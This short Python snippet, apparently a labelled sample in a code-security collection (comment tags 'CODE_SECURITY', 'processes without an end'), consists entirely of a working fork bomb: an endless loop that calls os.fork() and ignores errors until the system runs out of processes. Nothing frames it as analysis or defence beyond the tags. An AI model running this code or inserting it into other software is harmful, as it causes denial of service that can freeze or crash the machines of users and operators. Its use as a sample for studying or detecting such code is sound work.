# guard: CODE_SECURITY
# bare: CODE_SECURITY
# what: processes without an end
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
